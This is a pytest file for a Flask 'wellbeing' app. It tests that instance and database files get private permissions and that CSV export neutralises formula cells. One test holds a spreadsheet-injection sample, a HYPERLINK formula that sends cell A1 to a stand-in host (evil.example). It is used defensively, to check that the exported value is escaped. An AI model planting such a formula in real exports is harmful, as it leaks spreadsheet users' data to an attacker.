"""Private instance files and safe CSV cells (issue 17, item 6)."""

from __future__ import annotations

import csv
import io
import stat
from pathlib import Path

import pytest
from flask import Flask

from wellbeing import create_app
from wellbeing.core.csv_cells import neutralise
from wellbeing.services.units import import_units

DATA = Path(__file__).resolve().parent / "data"


def mode(p: Path) -> int:
    return stat.S_IMODE(p.stat().st_mode)


def test_setup_makes_instance_folder_config_and_database_private(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    inst = tmp_path / "inst"
    monkeypatch.setenv("WELLBEING_INSTANCE_PATH", str(inst))
    app = create_app({"TESTING": True, "INSTANCE_PATH": str(inst)})
    res = app.test_cli_runner().invoke(args=["setup"])
    assert res.exit_code == 0, res.output
    assert mode(inst) == 0o700 and mode(inst / "config.py") == 0o600
    assert mode(inst / "wellbeing.sqlite") == 0o600
    for extra in ("wellbeing.sqlite-wal", "wellbeing.sqlite-shm"):
        if (inst / extra).exists():
            assert mode(inst / extra) == 0o600


@pytest.mark.sqlite_only(reason="checks the mode of the SQLite database file")
def test_existing_world_readable_database_is_made_private_on_connect(app: Flask, instance: Path) -> None:
    db_file = instance / "wellbeing.sqlite"
    db_file.chmod(0o644)
    with app.app_context():
        from wellbeing.extensions import db

        db.engine.dispose()          # the next connection is a new one (the app may hold one already)
        import_units((DATA / "units-small.csv").read_bytes(), imported_by="test")
    assert mode(db_file) == 0o600


def test_neutralise_formula_cells() -> None:
    assert [neutralise(v) for v in ("=1+1", "+7", "-x", "@SUM(A1)", "\t=1", "plain", "a=b")] == \
        ["'=1+1", "'+7", "'-x", "'@SUM(A1)", "'\t=1", "plain", "a=b"]
    assert neutralise(-2.5) == -2.5 and neutralise(None) is None


def test_pilots_csv_title_starting_with_equals_is_neutralised(app: Flask, runner) -> None:  # type: ignore[no-untyped-def]
    with app.app_context():
        import_units((DATA / "units-small.csv").read_bytes(), imported_by="test")
    title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    res = runner.invoke(args=["pilots", "create", "p1", "--regions", "akm", "--starts", "2026-01-01",
                              "--title", title])
    assert res.exit_code == 0, res.output
    out = runner.invoke(args=["pilots", "list", "--format", "csv"]).output
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows[0]["title"] == "'" + title
